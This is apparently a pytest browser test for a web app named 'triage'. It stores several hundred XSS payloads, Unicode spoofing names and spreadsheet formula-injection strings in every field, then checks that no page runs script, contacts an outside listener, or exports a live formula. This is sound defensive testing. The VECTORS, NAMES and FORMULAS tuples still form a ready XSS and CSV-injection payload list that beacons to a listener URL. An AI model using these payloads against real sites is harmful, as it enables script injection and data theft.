"""More than 300 payloads in every text that somebody outside chooses, opened in Debian's chromium beside a listener that should hear nothing."""

import csv
import io
import threading
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from itertools import product

import pytest

from triage.domain.contact import Speaker, Turn
from triage.domain.record import Record, RecordKind
from triage.domain.signal import Assessment, Finding
from triage.queue import settle
from triage.reports.sheet import neutral
from triage.store.access import Duty
from triage.testing import NOW, contact, invited, put

CLOSERS = ("", '">', "'>", "</textarea></title>", "</script>", "--></style>", "]]>", "\x00`>")
RUN = "document.documentElement.dataset.ran=1;fetch('{u}')"
VECTORS = (
    "<script>{j}</script>",
    "<script src={u}></script>",
    "<ScRiPt/x>{j}</ScRiPt >",
    '<img src=x onerror="{j}">',
    "<img src={u}>",
    "<img srcset='{u} 1x'>",
    '<svg onload="{j}"></svg>',
    "<svg><script>{j}</script></svg>",
    "<svg><image href={u} /></svg>",
    "<svg><use href='{u}#a'/></svg>",
    '<svg><animate onbegin="{j}" attributeName=x dur=1s></svg>',
    "<svg><foreignObject><iframe src={u}></iframe></foreignObject></svg>",
    '<math><mtext><img src=x onerror="{j}"></mtext></math>',
    '<iframe src="javascript:{j}"></iframe>',
    '<iframe srcdoc="<script>{j}</script>"></iframe>',
    "<object data={u}></object>",
    "<embed src={u}>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<link rel=dns-prefetch href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}/>",
    "<style>@import '{u}';</style>",
    "<style>*{{background:url({u})}}</style>",
    '<p style="background:url({u})">x</p>',
    '<body onload="{j}" background={u}>',
    '<input autofocus onfocus="{j}">',
    '<details open ontoggle="{j}">x</details>',
    '<video autoplay poster={u}><source src={u} onerror="{j}"></video>',
    '<audio src={u} autoplay onerror="{j}"></audio>',
    '<marquee onstart="{j}">x</marquee>',
    "<form action={u}><button autofocus>x</button></form>",
    '<a href="javascript:{j}" ping={u}>x</a>',
    '<a href="data:text/html,<script>{j}</script>">x</a>',
    '<a href="vbscript:x">x</a> javascript:{j} //x',
    "<noscript><p title=\"</noscript><img src=x onerror='{j}'>\">",
    "<template><script>{j}</script></template>",
    '<xmp><img src=x onerror="{j}"></xmp>',
    '<portal src={u}></portal><frameset onload="{j}"></frameset>',
    "{{{{ 7*7 }}}}{{% include 'x' %}}${{7*7}}#{{7*7}}",
    '&lt;img src=x onerror="{j}"&gt; &#60;script&#62;{j}&#60;/script&#62;',
    "+ADw-script+AD4-{j}+ADw-/script+AD4-",
)
NAMES = (
    "safe\u202etxt.exe",
    "pay\u200bpal",
    "a\u2066b\u2069",
    "B\u200eob",
    "x\u00ady",
    "\u061cz",
    "\ufeffq",
    "аdmin",
    "e\u0301\u0301\u0301",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("{u}")',
    "|cmd",
    "%0A=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
)
CHUNK = 24


def payloads(outside):
    run = RUN.format(u=outside)
    made = [closer + vector.format(u=outside, j=run) for vector, closer in product(VECTORS, CLOSERS)]
    return [*made, *NAMES, *(cell.format(u=outside) for cell in FORMULAS)]


@pytest.fixture
def outside():
    """A listener that no page should ever reach; gives its address and what it heard."""
    heard = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self):
            self.do_GET()

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Ear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/x", heard
    server.shutdown()
    server.server_close()


def _fill(desk, texts):
    """Every text in every field of a contact, a record, a finding, a circumstance; gives the pages that show them."""
    with desk.store.begin() as unit:
        issue = unit.issues.get(desk.landlord.boiler_issue)
        ids = []
        for start in range(0, len(texts), CHUNK):
            some, id = texts[start : start + CHUNK], f"c-evil-{start}"
            item = contact(
                id,
                NOW - timedelta(minutes=30),
                "\n".join(some),
                subject=" ".join(some),
                turns=(Turn(speaker=Speaker.CUSTOMER, text=" ".join(some), start_ms=0),) if start % 2 else (),
                not_scored=" ".join(some) if start == 0 else None,
                routes=tuple(some[:3]),
                from_name=" ".join(some),
                from_addr=some[0],
                attachments=tuple(some),
            )
            put(unit, item, issue.id, f"C-{some[0]}")
            record = Record(
                id=f"r-{start}", at=NOW - timedelta(days=2), kind=RecordKind.PROMISE, ref=some[0], text=" ".join(some)
            )
            unit.landlord.put_record(record, issue.id)
            ids.append(id)
        every = " ".join(texts)
        finding = Finding(
            code="A1",
            customer_ref=f"C-{texts[0]}",
            why=every,
            contacts=tuple(ids[:6]),
            event=ids[0],
            what_would_change=every,
        )
        assessment = Assessment(
            at=NOW, issue_id=issue.id, policy="p", contact_id=ids[0], findings=(finding,), circumstances=(every,)
        )
        unit.issues.put_assessment(assessment)
        settle(unit, assessment, desk.landlord.policy)
        flag = next(flag.id for flag in unit.flags.listed(issue_id=issue.id) if flag.code("A1"))
        unit.audit.append(at=NOW, actor=every, action="x", subject=every, detail={"x": every})
    return {
        Duty.REVIEWER: ["/", f"/flags/{flag}", "/not-scored", "/owed", *(f"/contacts/{id}" for id in ids)],
        Duty.MANAGER: ["/patterns", f"/issues/{desk.landlord.boiler_issue}", "/decisions", "/intake"],
        Duty.AUDITOR: ["/audit", "/health"],
    }


FOUND = """() => ({
    ran: document.documentElement.dataset.ran ?? null,
    foreign: [...document.querySelectorAll(
        'main :is(iframe,object,embed,base,style,link,meta,script,math,video,audio,marquee,portal,frameset,template,xmp)'
    )].filter(tag => !(tag.getAttribute('href') ?? tag.getAttribute('src') ?? '').startsWith('/static/')).length,
    acting: [...document.querySelectorAll('*')].filter(tag => [...tag.attributes].some(it =>
        it.name.startsWith('on') || it.name === 'style' || it.name === 'ping'
        || (['href', 'src', 'action', 'data'].includes(it.name) && /^\\s*(javascript|data|vbscript):/i.test(it.value)))).length,
})"""


@pytest.mark.browser
def test_no_payload_runs_and_no_page_asks_for_anything_outside(desk, served, chromium, outside):
    address, heard = outside
    texts = payloads(address)
    assert len(set(texts)) >= 300
    asked, opened, shown = [], 0, 0
    for duty, paths in _fill(desk, texts).items():
        context = chromium.new_context()
        page = context.new_page()
        page.on("request", lambda request: None if request.url.startswith(served) else asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append("dialog") or dialog.dismiss())
        page.goto(f"{served}/sign-in?token={invited(desk.store, duty, NOW)}")
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_selector("main")
        for path in paths:
            answer = page.goto(served + path)
            assert answer.status == 200, path
            found = page.evaluate(FOUND)
            assert found == {"ran": None, "foreign": 0, "acting": 0}, path
            shown += page.content().count("&lt;script")
            opened += 1
        context.close()
    assert opened > 20
    assert shown > 300, "the payloads were on the pages"
    assert asked == []
    assert heard == []


def test_no_cell_of_an_export_is_a_formula(desk, reviewer):
    texts = payloads("http://outside.example/x")
    _fill(desk, texts)
    rows = list(csv.reader(io.StringIO(reviewer.get("/owed/sheet").text.removeprefix("\ufeff"))))
    assert len(rows) > 1
    for cell in [*(cell for row in rows for cell in row), *map(neutral, texts)]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "|", "%", "\t", "＝", "＋", "－", "＠")), cell
        assert "\x00" not in cell and "\r" not in cell
